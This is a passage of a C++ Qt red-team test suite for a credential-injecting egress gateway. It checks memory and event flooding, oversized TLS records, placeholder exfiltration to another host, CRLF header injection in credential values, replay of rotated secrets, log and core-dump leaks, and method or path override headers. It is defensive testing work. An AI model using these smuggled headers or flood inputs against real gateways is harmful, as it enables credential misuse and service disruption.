    QByteArray batch;
    for (int i = 0; i < 1000; ++i)
        batch += "GET /v1/flood HTTP/1.1\r\nHost: api.test\r\n\r\n"_ba;
    int sentBatches = 0;
    // 200k requests (7 MB): far more than the socket buffers on the way hold.
    while (sentBatches < 200 && connection->send(batch))
        ++sentBatches;
    const qint64 after = rssKiB();
    const auto api = m_topo.upstream().connections(u"api"_s);
    const qsizetype upstreamSaw = api.isEmpty() ? 0 : api.first().requests.size();
    qInfo("sent %d000 requests before the guest's send stalled; the upstream saw %lld; gateway "
          "RSS %lld -> %lld KiB",
          sentBatches, qlonglong(upstreamSaw), qlonglong(before), qlonglong(after));
    QVERIFY2(sentBatches < 200, "the gateway kept reading a guest that never reads");
    QVERIFY2(after - before < 24 * 1024, "the gateway's memory grew with the pipelined requests");
    connection.reset();
    m_topo.resetObservations();
}

// The guard is fed 4 KiB slices (kGuardSlice); a CONNECT whose tunnel bytes follow in the same
// write, more than a slice of them, must hand all of them to the tunnel's TLS layer, not leave
// the rest waiting for the guard. Here an 8 KiB handshake record (a ClientHello by its header,
// garbage inside) straddles the slice: the gateway must see it whole, refuse it and close.
void TestRedteamCredentials::connectFollowedByMoreThanASlice()
{
    m_topo.resetObservations();
    auto proxy = openProxy();
    QVERIFY(proxy);
    const qsizetype body = 8192;
    QByteArray record = "\x16\x03\x01"_ba;
    record += char(body >> 8);
    record += char(body & 0xff);
    record += "\x01"_ba;
    record += char(0);
    record += char((body - 4) >> 8);
    record += char((body - 4) & 0xff);
    record += QByteArray(body - 4, '\x07');
    QVERIFY(proxy->send("CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n" + record));
    QByteArray received;
    QVERIFY2(proxy->closedByPeer(5000, &received), "the tunnel's bytes were left unread");
    QVERIFY2(received.startsWith("HTTP/1.1 200"), received.constData());
    const auto event = m_topo.gateway().waitForEvent(
        [](const QJsonObject &e) {
            return e.value(u"verdict"_s) == u"denied"_s
                && (e.value(u"layer"_s) == u"tls"_s || e.value(u"layer"_s) == u"tcp"_s);
        },
        3000);
    QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
}

// docs/reviews/2026-12-01-credentials-redteam.md#f6: one connection's pipelined requests made ~23k
// events/s, more than airlockd stores; queued events were then dropped, alerts included. The
// gateway passes at most its event rate (EventRateLimiter: a burst, then 200/s) and reports the
// rest as summaries with `count`, so every decision is counted; an alert right after the flood has
// a bucket of its own and arrives at once, alone.
void TestRedteamCredentials::eventFloodIsSummarized()
{
    m_topo.resetObservations();
    constexpr int kRequests = 5000;
    bool handshake = false;
    auto connection = openTls(m_topo.resolveAddress(u"api.test"_s), "api.test"_ba, &handshake);
    QVERIFY(connection && handshake);
    QByteArray requests;
    for (int i = 1; i < kRequests; ++i)
        requests += "GET /v1/flood HTTP/1.1\r\nHost: api.test\r\n\r\n"_ba;
    requests += "GET /v1/flood HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"_ba;
    QElapsedTimer elapsed;
    elapsed.start();
    QVERIFY(connection->send(requests));
    const QByteArray answers = connection->readAll(30000);
    QCOMPARE(answers.count("HTTP/1.1 200 OK"), kRequests);
    const qint64 floodMs = elapsed.elapsed();

    // The probe: the placeholder to another host, right after the flood.
    const HttpResponse probe = viaTls(
        "pkg.test"_ba, get("/x"_ba, "pkg.test"_ba, "Bearer " + kPlaceholder), 443, u"pkg.test"_s);
    REDTEAM_CHECK(expectDenyHttp(probe, {403}, {u"credential_exfil"_s}));
    const auto alert = m_topo.gateway().waitForEvent(
        [](const QJsonObject &e) { return e.value(u"reason"_s) == u"credential_exfil"_s; }, 500);
    QVERIFY2(alert, "the alert did not arrive at once after the flood");
    QVERIFY(alert->value(u"alert"_s).toBool());
    QVERIFY(!alert->contains(u"count"_s));

    // Every decision is counted, in far fewer events: the summaries follow within a second.
    auto floodEvents = [this] {
        QList<QJsonObject> found;
        for (const QJsonObject &e : m_topo.gateway().eventsSinceMark()) {
            if (e.value(u"layer"_s) == u"http"_s && e.value(u"host"_s) == u"api.test"_s)
                found.append(e);
        }
        return found;
    };
    auto counted = [&] {
        qint64 total = 0;
        for (const QJsonObject &e : floodEvents())
            total += e.value(u"count"_s).toInteger(1);
        return total;
    };
    // What the upstream saw, for a failure below (once in CI, 2026-12-01: 97 more decisions than
    // requests, all "guest connection error"; not reproduced since, under load either).
    qsizetype upstreamRequests = 0;
    for (const auto &seen : m_topo.upstream().connections(u"api"_s))
        upstreamRequests += seen.requests.size();
    qInfo("the upstream saw %lld requests", qlonglong(upstreamRequests));
    QTRY_COMPARE_WITH_TIMEOUT(counted(), qint64(kRequests), 5000);
    const QList<QJsonObject> events = floodEvents();
    const qint64 bound = qint64(airlock::gateway::EventRateLimiter::kBurst)
        + qint64(airlock::gateway::EventRateLimiter::kRate) * (floodMs / 1000 + 2) + 16;
    qInfo("%d requests in %lld ms: %lld events (bound %lld)", kRequests, qlonglong(floodMs),
          qlonglong(events.size()), qlonglong(bound));
    QVERIFY2(events.size() <= bound, qPrintable(QString::number(events.size())));
    QVERIFY(std::any_of(events.cbegin(), events.cend(),
                        [](const QJsonObject &e) { return e.value(u"count"_s).toInteger() > 1; }));
}

// Credentials are replaced whole while the gateway runs: without them the placeholder goes
// out as it is (nothing to inject, nothing to guard), a binding without its value is refused
// (credential_unavailable), a bad message keeps the set in force.
void TestRedteamCredentials::credentialsChangeWhileRunning()
{
    QString answer;
    QVERIFY2(m_topo.gateway().send(
                 QJsonObject {{u"type"_s, u"credentials"_s}, {u"credentials"_s, QJsonArray()}}),
             "cannot send");
    QVERIFY(m_topo.gateway().waitForMessage(u"credentialsApplied"_s, 3000));
    HttpResponse response =
        viaTls("api.test"_ba, get("/v1/a"_ba, "api.test"_ba, "Bearer " + kPlaceholder));
    QCOMPARE(response.status, 200);
    auto api = m_topo.upstream().connections(u"api"_s);
    QCOMPARE(api.size(), 1);
    QCOMPARE(api.first().requests.first().values("Authorization"),
             QList<QByteArray> {"Bearer " + kPlaceholder});

    // A binding whose value airlockd could not read (valueBytes 0): refused, never forwarded.
    QVERIFY(m_topo.gateway().send(credentialsMessage(0), QByteArray()));
    QVERIFY(m_topo.gateway().waitForMessage(u"credentialsApplied"_s, 3000));
    m_topo.resetObservations();
    response = viaTls("api.test"_ba, get("/v1/b"_ba, "api.test"_ba, "Bearer " + kPlaceholder));
    REDTEAM_CHECK(expectDenyHttp(response, {503}, {u"credential_unavailable"_s}));
    REDTEAM_CHECK(recordedTraffic(m_topo.upstream(), u"api"_s));

    QVERIFY2(sendCredentials(kSecret.size(), kSecret, &answer), qPrintable(answer));
    // A value with a control byte (header injection, docs/reviews/2026-11-30-redteam-pass.md#f5) is
    // refused whole: the previous set stays.
    QVERIFY(m_topo.gateway().send(credentialsMessage(9), "abc\r\nX-y:"_ba));
    const auto refused = m_topo.gateway().waitForMessage(u"error"_s, 3000);
    QVERIFY2(refused && refused->value(u"error"_s).toString().contains(u"control character"_s),
             qPrintable(m_topo.gateway().logTail()));
    m_topo.resetObservations();
    response = viaTls("api.test"_ba, get("/v1/c"_ba, "api.test"_ba, "Bearer " + kPlaceholder));
    QCOMPARE(response.status, 200);
    api = m_topo.upstream().connections(u"api"_s);
    QCOMPARE(api.size(), 1);
    QCOMPARE(api.first().requests.first().values("Authorization"),
             QList<QByteArray> {"Bearer " + kSecret});
}

// docs/reviews/2026-12-01-credentials-redteam.md#f7: after a rotation, and after the binding is
// removed, an upstream that kept the old value hands it back. The gateway keeps scrubbing retired
// values (to their old placeholder) for its lifetime; the provider may still accept them.
void TestRedteamCredentials::I3_retiredValuesAreStillScrubbed()
{
    const QByteArray rotated = "rotated-Value_77/x+y=z~Q"_ba;
    QString answer;
    QVERIFY2(sendCredentials(kSecret.size(), kSecret, &answer), qPrintable(answer));
    HttpResponse response =
        viaTls("api.test"_ba, get("/v1/a"_ba, "api.test"_ba, "Bearer " + kPlaceholder));
    QCOMPARE(response.status, 200); // the upstream now remembers kSecret
    QVERIFY2(sendCredentials(rotated.size(), rotated, &answer), qPrintable(answer));
    response = viaTls("api.test"_ba, get("/v1/recall"_ba, "api.test"_ba, "Bearer " + kPlaceholder));
    QCOMPARE(response.status, 200);
    QCOMPARE(response.body, "previous credential: " + kPlaceholder + "\n");
    REDTEAM_CHECK(leakedForms(response.head + response.body, u"the response after rotation"_s));

    // The binding removed: no credentials at all, the rotated value still comes back scrubbed.
    QVERIFY(m_topo.gateway().send(
        QJsonObject {{u"type"_s, u"credentials"_s}, {u"credentials"_s, QJsonArray()}}));
    QVERIFY(m_topo.gateway().waitForMessage(u"credentialsApplied"_s, 3000));
    response = viaTls("api.test"_ba, get("/v1/recall"_ba, "api.test"_ba, QByteArray()));
    QCOMPARE(response.status, 200);
    QCOMPARE(response.body, "previous credential: " + kPlaceholder + "\n");
    QVERIFY2(!response.body.contains(rotated), response.body.constData());
    QVERIFY2(sendCredentials(kSecret.size(), kSecret, &answer), qPrintable(answer));
}

// I4: after every case above ran at the most verbose log level, no form of the secret is in
// the gateway's log (stdout and stderr), in any event, or in anything a guest client received.
void TestRedteamCredentials::I4_secretInNoLogOrEvent()
{
    QFile log(m_topo.gateway().logFile());
    QVERIFY(log.open(QIODevice::ReadOnly));
    const QByteArray logBytes = log.readAll();
    // The debug categories were on: per-request lines are there (so the check is not vacuous).
    QVERIFY2(logBytes.contains("airlock.gateway.http") || logBytes.contains("injected binding"),
             logBytes.right(2000).constData());
    REDTEAM_CHECK(leakedForms(logBytes, u"the gateway log"_s));
    QByteArray events;
    for (const QJsonObject &event : m_topo.gateway().events())
        events += QJsonDocument(event).toJson(QJsonDocument::Compact) + '\n';
    QVERIFY(events.contains("credential_exfil"));
    REDTEAM_CHECK(leakedForms(events, u"the egress events"_s));
    QVERIFY(m_guestSaw.contains(kPlaceholder));
    REDTEAM_CHECK(leakedForms(m_guestSaw, u"what the guest received"_s));
}

// I4: a gateway holding the secret that crashes leaves no core file (it is not dumpable,
// PR_SET_DUMPABLE 0), where a dumpable process under the same limit and directory does.
void TestRedteamCredentials::I4_crashedGatewayLeavesNoCore()
{
    AIRLOCK_SKIP_WHEN_SANITIZED("AddressSanitizer takes the SIGSEGV for itself");
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QDir cores(dir.path());
    auto coreFiles = [&] { return cores.entryList({u"core*"_s}, QDir::Files); };

    // The control: a dumpable shell killed the same way must leave a core, or this machine
    // writes none at all (a core_pattern elsewhere, a pipe) and the check would prove nothing.
    QProcess control;
    control.setWorkingDirectory(dir.path());
    control.start(u"/bin/sh"_s, {u"-c"_s, u"ulimit -c unlimited && kill -SEGV $$"_s});
    QVERIFY(control.waitForFinished(10000));
    if (coreFiles().isEmpty())
        QSKIP("a dumpable process leaves no core file in its directory here (core_pattern)");
    for (const QString &file : coreFiles())
        QFile::remove(cores.filePath(file));

    const QJsonObject config = standaloneConfig(dir.path());
    QVERIFY(!config.isEmpty());
    airlock::test::GatewayProcess gateway;
    gateway.setCoreDumpDirectory(dir.path());
    QString error;
    QVERIFY2(gateway.start(m_topo.hostNs(), dir.filePath(u"gateway.log"_s), config, &error),
             qPrintable(error));
    QVERIFY2(gateway.waitReady(10000, &error), qPrintable(error));
    QVERIFY(gateway.send(credentialsMessage(kSecret.size()), kSecret));
    QVERIFY2(gateway.waitForMessage(u"credentialsApplied"_s, 3000), qPrintable(gateway.logTail()));
    const qint64 pid = gateway.pid();
    QVERIFY(pid > 0);
    QCOMPARE(::kill(pid_t(pid), SIGSEGV), 0);
    QTRY_VERIFY_WITH_TIMEOUT(!gateway.isRunning(), 10000);
    gateway.stop();
    QVERIFY2(coreFiles().isEmpty(), qPrintable(coreFiles().join(u", "_s)));
}

// docs/reviews/2026-12-01-credentials-redteam.md#f5 and #f11: airlockd starts every gateway with
// --max-data-bytes and --max-log-bytes (GatewayConfig). They become hard limits (RLIMIT_DATA,
// RLIMIT_FSIZE) the gateway cannot raise again, and a log at its cap stops growing while the
// gateway keeps working (EFBIG, not SIGXFSZ).
void TestRedteamCredentials::logAndMemoryAreBounded()
{
    AIRLOCK_SKIP_WHEN_SANITIZED("the sanitized gateway runs without RLIMIT_DATA");
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QJsonObject config = standaloneConfig(dir.path());
    QVERIFY(!config.isEmpty());
    const airlock::GatewayConfig defaults;
    constexpr qint64 kLogCap = 8192;
    airlock::test::GatewayProcess gateway;
    gateway.setExtraArguments({u"--log-level"_s, u"trace"_s, u"--max-data-bytes"_s,
                               QString::number(defaults.maxDataBytes), u"--max-log-bytes"_s,
                               QString::number(kLogCap)});
    const QString log = dir.filePath(u"gateway.log"_s);
    QString error;
    QVERIFY2(gateway.start(m_topo.hostNs(), log, config, &error), qPrintable(error));
    QVERIFY2(gateway.waitReady(10000, &error), qPrintable(error));
    QFile limits(u"/proc/%1/limits"_s.arg(gateway.pid()));
    QVERIFY(limits.open(QIODevice::ReadOnly));
    const QByteArray table = limits.readAll();
    const QByteArray data = QByteArray::number(defaults.maxDataBytes);
    QVERIFY2(table.contains("Max data size             " + data + "           " + data),
             table.constData());
    QVERIFY2(table.contains("Max file size             8192                 8192"),
             table.constData());
    // Every credentials message logs a line: far more than the cap.
    const QJsonObject empty {{u"type"_s, u"credentials"_s}, {u"credentials"_s, QJsonArray()}};
    for (int i = 0; i < 3000; ++i)
        QVERIFY(gateway.send(empty));
    for (int i = 0; i < 3000; ++i)
        QVERIFY2(gateway.waitForMessage(u"credentialsApplied"_s, 5000), "the gateway stopped");
    QVERIFY(gateway.isRunning());
    QVERIFY2(QFileInfo(log).size() <= kLogCap, qPrintable(QString::number(QFileInfo(log).size())));
    QVERIFY(QFileInfo(log).size() > kLogCap / 2);
    gateway.stop();
}

// docs/reviews/2026-12-01-gateway-round3.md#f6: the binding allows GET/POST under /v1; a DELETE or
// a path outside /v1 is refused (I1 near misses). The same intent spelled as a GET/POST under
// /v1 with X-HTTP-Method-Override / X-Original-URL gets the secret injected and the override
// forwarded: an upstream that honours the field (Google APIs, Symfony, ASP.NET, IIS, ...) runs
// DELETE, or serves /admin, with the credential.
void TestRedteamCredentials::noInjectionWithMethodOrPathOverride_data()
{
    QTest::addColumn<QByteArray>("field");
    QTest::newRow("X-HTTP-Method-Override: DELETE") << "X-HTTP-Method-Override: DELETE"_ba;
    QTest::newRow("X-Original-URL: /v2/admin") << "X-Original-URL: /v2/admin"_ba;
}

void TestRedteamCredentials::noInjectionWithMethodOrPathOverride()
{
    QFETCH(QByteArray, field);
    m_topo.resetObservations();
    const QByteArray request = "POST /v1/echo HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer "
        + kPlaceholder + "\r\n" + field + "\r\nContent-Length: 0\r\n\r\n";
    const HttpResponse response = viaTls("api.test"_ba, request);
    QVERIFY(m_topo.settle());
    const QByteArray name = field.left(field.indexOf(':'));
    QStringList seen;
    for (const auto &c : m_topo.upstream().connections(u"api"_s)) {
        for (const auto &r : c.requests) {
            const bool injected = r.values("Authorization").contains("Bearer " + kSecret);
            if (injected && !r.values(name).isEmpty())
                seen << QString::fromLatin1(r.method + ' ' + r.target + " + " + name + ": "
                                            + r.values(name).first() + " with the secret");
        }
    }
    qInfo("status %d", response.status);
    QVERIFY2(seen.isEmpty(), qPrintable(u"api.test received: "_s + seen.join(u"; "_s)));
}

QTEST_GUILESS_MAIN(TestRedteamCredentials)
#include "tst_redteam_credentials.moc"
